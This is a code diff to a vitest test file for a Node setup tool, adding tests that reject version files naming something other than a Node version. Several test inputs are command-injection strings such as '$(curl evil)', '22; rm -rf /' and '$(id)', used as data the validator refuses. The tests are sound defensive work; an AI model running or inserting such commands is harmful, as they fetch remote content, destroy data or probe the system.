@@ -3,7 +3,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { cacheKey } from '../../shared/setup/dependency-cache.js';
-import { requestedNodeVersion } from '../../shared/setup/node-version.js';
+import { isNodeVersionSpec, requestedNodeVersion } from '../../shared/setup/node-version.js';
 import { detectPackageManager, frozenInstall, storePathCommand } from '../../shared/setup/package-manager.js';
 
 /** A project folder holding the given files (objects are written as JSON). */
@@ -21,9 +21,15 @@ describe('requestedNodeVersion: node-version, node-version-file and their defaul
     const dir = project({ '.tool': '# pinned\nlts/iron\n', 'package.json': { engines: { node: '>=20' } } });
     expect(requestedNodeVersion(dir, undefined, '.tool')).toEqual({ spec: 'lts/iron', source: '.tool' });
     expect(requestedNodeVersion(dir, undefined, 'package.json')).toEqual({ spec: '>=20', source: 'package.json' });
-    expect(() => requestedNodeVersion(dir, undefined, '.nvmrc')).toThrow(/node-version-file \.nvmrc does not exist/);
+    expect(() => requestedNodeVersion(dir, undefined, '.nvmrc')).toThrow(/^Invalid input: "node-version-file": expected a file in .*; \.nvmrc does not exist$/);
     expect(() => requestedNodeVersion(project({ empty: '\n# nothing\n' }), undefined, 'empty')).toThrow(/names no Node version/);
   });
+  it('refuses a file naming something that is not a version, before any download', () => {
+    expect(() => requestedNodeVersion(project({ '.tool': 'twenty-two\n' }), undefined, '.tool')).toThrow(/^Invalid input: "node-version-file": expected a file naming a Node version or range .*; \.tool names "twenty-two"$/);
+    expect(() => requestedNodeVersion(project({ '.nvmrc': '$(curl evil)\n' }), undefined, undefined)).toThrow(/^\.nvmrc names "\$\(curl evil\)", not a Node version/);
+  });
+  it.each(['24', 'v24.9.0', '>=22', '^22 || ^24', '24.x', 'lts/*', 'lts/iron', 'node', 'latest', 'current'])('%s is a Node version spec', (spec) => expect(isNodeVersionSpec(spec)).toBe(true));
+  it.each(['lts', 'twenty', '-1', '22; rm -rf /', '$(id)', 'lts/-1'])('%s is not a Node version spec', (spec) => expect(isNodeVersionSpec(spec)).toBe(false));
   it('defaults to .nvmrc, then .node-version, then package.json volta.node, then engines.node, then the Node on PATH', () => {
     const pkg = { volta: { node: '22.11.0' }, engines: { node: '>=20' } };
     expect(requestedNodeVersion(project({ '.nvmrc': 'node', '.node-version': '22', 'package.json': pkg }), undefined, undefined)).toEqual({ spec: '*', source: '.nvmrc' });
